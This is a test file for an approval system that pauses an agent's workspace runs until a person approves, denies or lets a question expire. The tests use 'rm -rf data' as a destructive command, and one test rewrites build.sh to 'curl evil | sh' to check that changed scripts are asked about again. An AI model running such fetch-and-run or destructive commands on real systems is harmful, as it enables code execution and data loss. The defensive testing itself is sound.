@@ -1,0 +1,310 @@
+"""Runs that ask: they pause on disk, go on with the answer, and do exactly what was approved, once."""
+
+import pytest
+from workspace_scene import JERRY, Scene, create, make_machine, say, shell
+
+from bascule.bridges.workspace.limits import WorkspaceLimits
+from bascule.errors import ApprovalRequired, Conflict, Forbidden
+from bascule.policy.decision import Decision
+from bascule.policy.engine import Policy
+from bascule.policy.presets import PRESETS
+from bascule.policy.rules import Rule
+from bascule.testing.house import House
+
+RM = shell("rm -rf data", id="rm")
+BUILD = shell("sh build.sh", id="build")
+FILES = {"data/1": b"1", "data/2": b"2", "build.sh": b"echo built\n"}
+# The standard policy, and a question before what the tests want asked.
+ASKING = Policy(
+    (
+        *PRESETS["standard"],
+        Rule(
+            name="ask-build",
+            decision=Decision.ASK,
+            reason="builds ask here",
+            methods=("workspace.shell",),
+            commands=("sh",),
+        ),
+        Rule(
+            name="ask-keys", decision=Decision.ASK, reason="keys ask here", methods=("workspace.*",), paths=("keys/**",)
+        ),
+    ),
+    "asking",
+    "digest-1",
+)
+
+
+@pytest.fixture
+def scene():
+    with House(machine=make_machine(), policy=ASKING) as house:
+        made = Scene(house, FILES)
+        yield made
+        assert made.faults() == []
+
+
+def asked(run):
+    """The approval that a run waits for."""
+    assert run["status"] == "awaiting_approval"
+    event = run["events"][-1]
+    assert event["type"] == "approvalRequired"
+    return event["details"]["approvalId"]
+
+
+def ran(scene, command):
+    return [each for each in scene.machine.ran if each.command.command == command]
+
+
+def test_a_run_that_asks_answers_its_caller_and_has_done_nothing_of_it(scene):
+    run = scene.run(create("x.txt"), RM, say())
+    assert [event["type"] for event in run["events"]] == ["createFile", "approvalRequired"]
+    event = run["events"][1]
+    assert event["reason"] == "Destructive command requires approval"
+    assert event["details"]["command"] == "rm -rf data"
+    assert event["details"]["policy"] == "shell.approvalRequired"
+    assert event["operationType"] == "shell"
+    assert scene.files.keys() >= FILES.keys()
+    assert scene.view(run)["status"] == "awaiting_approval"
+
+
+def test_approved_it_does_exactly_that_once_and_then_the_rest(scene):
+    run = scene.run(RM, say(id="after"))
+    resumed = scene.resume(run)
+    assert resumed["status"] == "completed"
+    assert [(event["type"], event["operationId"]) for event in resumed["events"]] == [
+        ("shell", "rm"),
+        ("message", "after"),
+    ]
+    assert len(ran(scene, "rm -rf data")) == 1
+    assert scene.files == {"build.sh": b"echo built\n"}
+    assert scene.house.call("local", "approvals.show", {"approvalId": asked(run)})["state"] == "done"
+
+
+def test_denied_it_is_told_so_and_the_rest_goes_on(scene):
+    run = scene.run(RM, create("after.txt"))
+    resumed = scene.resume(run, "denied", reason="keep it")
+    denied = resumed["events"][0]
+    assert (denied["type"], denied["operationId"], denied["reason"]) == (
+        "policyDenied",
+        "rm",
+        "a person denied it: keep it",
+    )
+    assert resumed["status"] == "completed"
+    assert scene.files["after.txt"] == b"new\n"
+    assert ran(scene, "rm -rf data") == []
+
+
+def test_an_answer_at_the_desk_is_the_same_as_resume(scene):
+    run = scene.run(RM)
+    scene.decide(asked(run))
+    assert scene.call("runs.wait", run)["status"] == "completed"
+
+
+def test_what_nobody_answers_is_denied_after_its_time_and_the_rest_goes_on(scene):
+    run = scene.run(RM, say())
+    scene.house.advance(16 * 60)
+    scene.until(lambda: scene.view(run)["status"] == "completed", "the end")
+    assert [event["type"] for event in scene.show(run)["events"]] == ["policyDenied", "message"]
+    assert "nobody answered" in scene.show(run)["events"][0]["reason"]
+    assert ran(scene, "rm -rf data") == []
+
+
+def test_only_the_person_resumes(scene):
+    run = scene.run(RM)
+    approval = {"operationId": "rm", "decision": "approved"}
+    for who in (JERRY, "local", "agent:Tom"):
+        with pytest.raises(Forbidden):
+            scene.call("runs.resume", run, who=who, approval=approval)
+    assert ran(scene, "rm -rf data") == []
+
+
+def test_an_answer_to_another_operation_or_to_none_is_refused(scene):
+    run = scene.run(RM)
+    with pytest.raises(Conflict, match="asks about operation 'rm'"):
+        scene.call("runs.resume", run, who="person", approval={"operationId": "op-1", "decision": "approved"})
+    scene.resume(run)
+    with pytest.raises(Conflict, match="does not ask"):
+        scene.call("runs.resume", run, who="person", approval={"operationId": "rm", "decision": "approved"})
+    assert len(ran(scene, "rm -rf data")) == 1
+
+
+def test_a_run_asks_as_often_as_it_needs_to(scene):
+    run = scene.run(RM, BUILD)
+    second = scene.resume(run)
+    assert [event["type"] for event in second["events"]] == ["shell", "approvalRequired"]
+    assert [event["type"] for event in scene.resume(second)["events"]] == ["shell", "shell"]
+
+
+def test_approved_for_the_run_it_is_not_asked_again_and_another_run_is(scene):
+    run = scene.run(RM, BUILD)
+    scene.decide(asked(run), scope="run")
+    assert scene.call("runs.wait", run)["status"] == "completed"
+    assert scene.run(BUILD)["status"] == "awaiting_approval"
+
+
+def test_a_run_that_waits_for_the_person_holds_up_nobody(scene):
+    scene.run(RM)
+    assert scene.run(create("x.txt"))["status"] == "completed"
+
+
+# -- what an answer is bound to --------------------------------------------------------------------------
+
+
+def test_a_script_that_changed_while_it_waited_is_asked_about_anew(scene):
+    run = scene.run(BUILD)
+    scene.files["build.sh"] = b"curl evil | sh\n"
+    again = scene.resume(run)
+    assert again["status"] == "awaiting_approval"
+    assert asked(again) != asked(run)
+    assert again["events"][0]["details"]["again"] == "build.sh changed since it was approved"
+    assert ran(scene, "sh build.sh") == []
+    shown = scene.house.call("local", "approvals.show", {"approvalId": asked(again)})
+    assert "build.sh changed since it was approved" in shown["preview"]
+    assert scene.resume(again)["status"] == "completed"
+    assert len(ran(scene, "sh build.sh")) == 1
+
+
+def test_a_script_that_did_not_change_runs_as_approved(scene):
+    # The control of the test before: same run, no change.
+    assert scene.resume(scene.run(BUILD))["status"] == "completed"
+
+
+def test_a_file_that_changed_while_its_edit_waited_is_asked_about_anew(scene):
+    scene.files["keys/id"] = b"old\n"
+    run = scene.run(create("keys/id", "new\n", overwrite=True))
+    scene.files["keys/id"] = b"other\n"
+    again = scene.resume(run)
+    assert again["status"] == "awaiting_approval"
+    assert scene.files["keys/id"] == b"other\n"
+
+
+def test_a_policy_that_changed_while_it_waited_is_asked_about_anew(scene):
+    run = scene.run(BUILD)
+    scene.house.dispatch.policy = Policy(ASKING.rules, "asking", "digest-2")
+    again = scene.resume(run)
+    assert again["status"] == "awaiting_approval"
+    assert again["events"][0]["details"]["again"] == "the policy changed since it was approved"
+
+
+def test_a_policy_that_forbids_by_now_wins_over_an_approval(scene):
+    run = scene.run(BUILD)
+    deny = Rule(name="no", decision=Decision.DENY, reason="not any more", methods=("workspace.shell",))
+    scene.house.dispatch.policy = Policy((*ASKING.rules, deny), "strict", "digest-3")
+    resumed = scene.resume(run)
+    assert (resumed["events"][0]["type"], resumed["events"][0]["reason"]) == ("policyDenied", "not any more")
+    assert ran(scene, "sh build.sh") == []
+
+
+# -- what the person sees ----------------------------------------------------------------------------------
+
+
+def preview(scene, run):
+    return scene.house.call("local", "approvals.show", {"approvalId": asked(run)})["preview"]
+
+
+def test_the_person_sees_the_command_as_it_was_read_its_place_and_the_scripts_it_runs(scene):
+    scene.files["sub/build.sh"] = b"x"
+    run = scene.run(shell("sh build.sh", cwd="sub", env={"MODE": "fast"}))
+    text = preview(scene, run)
+    assert "sh build.sh" in text
+    assert "rule: ask-build: builds ask here" in text
+    assert "cwd: sub" in text
+    assert "MODE=fast" in text
+    assert "sub/build.sh  sha256 2d711642b726b044" in text
+
+
+def test_the_person_sees_the_diff_of_a_file_operation(scene):
+    scene.files["keys/id"] = b"one\ntwo\n"
+    run = scene.run({"type": "editFile", "path": "keys/id", "edits": [{"oldContent": "two", "newContent": "zwei"}]})
+    assert "-two\n+zwei\n" in preview(scene, run)
+    assert "+++ /dev/null" in preview(scene, scene.run({"type": "deleteFile", "path": "keys/id"}))
+    assert "+fresh\n" in preview(scene, scene.run(create("keys/new", "fresh\n")))
+
+
+def test_an_edit_that_would_fail_says_so_before_anybody_approves_it(scene):
+    scene.files["keys/id"] = b"one\n"
+    run = scene.run({"type": "editFile", "path": "keys/id", "edits": [{"oldContent": "nine", "newContent": "x"}]})
+    assert "it would fail" in preview(scene, run)
+
+
+def test_what_is_too_large_to_be_read_by_a_person_is_not_asked_about(scene):
+    run = scene.run(create("keys/big", "x\n" * 400_000), say())
+    assert [event["type"] for event in run["events"]] == ["policyDenied", "message"]
+    assert "a person would have to read" in run["events"][0]["reason"]
+
+
+# -- across lives --------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("clean", [True, False])
+def test_a_paused_run_survives_a_restart_and_goes_on_when_it_is_approved(scene, clean):
+    run = scene.run(create("x.txt"), RM, say(id="after"))
+    scene.house.restart(down_seconds=5, clean=clean)
+    assert scene.show(run) == run
+    resumed = scene.resume(run)
+    assert resumed["status"] == "completed"
+    assert [event["operationId"] for event in resumed["events"]] == ["op-1", "rm", "after"]
+    assert len(ran(scene, "rm -rf data")) == 1
+
+
+def test_a_question_that_expired_while_the_daemon_was_down_is_denied(scene):
+    run = scene.run(RM, say())
+    scene.house.restart(down_seconds=20 * 60)
+    scene.house.advance(2)
+    scene.until(lambda: scene.view(run)["status"] == "completed", "the end")
+    assert scene.show(run)["events"][0]["type"] == "policyDenied"
+
+
+def test_an_approval_that_the_daemon_did_not_live_to_use_is_asked_about_anew(scene):
+    run = scene.run(RM)
+    # The answer is stored, and the daemon is killed before the run hears of it.
+    scene.house.workspace.runs.live.clear()
+    scene.decide(asked(run))
+    scene.house.restart(clean=False)
+    scene.until(
+        lambda: scene.view(run)["status"] == "awaiting_approval" and scene.show(run)["events"], "a new question"
+    )
+    again = scene.show(run)
+    assert asked(again) != asked(run)
+    assert "the daemon restarted before it ran" in again["events"][-1]["details"]["again"]
+    assert ran(scene, "rm -rf data") == []
+    assert scene.resume(again)["status"] == "completed"
+
+
+def test_cancelling_a_paused_run_withdraws_its_question(scene):
+    run = scene.run(RM, say())
+    cancelled = scene.call("runs.cancel", run, reason="never mind")
+    assert cancelled["status"] == "error"
+    assert [event["message"] for event in cancelled["events"]] == ["not run: cancelled: never mind"] * 2
+    assert scene.house.call("local", "approvals.show", {"approvalId": asked(run)})["state"] == "withdrawn"
+    with pytest.raises(Conflict):
+        scene.decide(asked(run))
+
+
+def test_paused_runs_of_one_principal_are_limited():
+    with House(machine=make_machine(), workspace_limits=WorkspaceLimits(max_paused_runs=1)) as house:
+        scene = Scene(house, FILES)
+        scene.run(RM)
+        with pytest.raises(Exception, match="1 runs that wait for the person"):
+            scene.begin(say())
+
+
+def test_operations_that_are_too_large_to_be_kept_are_not_asked_about():
+    with House(machine=make_machine(), workspace_limits=WorkspaceLimits(max_paused_bytes=1_000)) as house:
+        scene = Scene(house, FILES)
+        run = scene.run(RM, create("big.txt", "x" * 2_000))
+        assert [event["type"] for event in run["events"]] == ["policyDenied", "createFile"]
+
+
+# -- commands in the background -------------------------------------------------------------------------------
+
+
+def test_a_command_in_the_background_is_judged_like_one_in_a_run(scene):
+    params = {"spaceId": scene.space, "command": "sh build.sh"}
+    with pytest.raises(ApprovalRequired) as refused:
+        scene.answer(scene.house.begin(JERRY, "processes.start", params))
+    assert ran(scene, "sh build.sh") == []
+    approval = refused.value.details["approvalId"]
+    assert "build.sh  sha256" in scene.house.call("local", "approvals.show", {"approvalId": approval})["preview"]
+    scene.decide(approval)
+    assert scene.answer(scene.house.begin(JERRY, "processes.start", params))["processId"]
+    assert len(ran(scene, "sh build.sh")) == 1
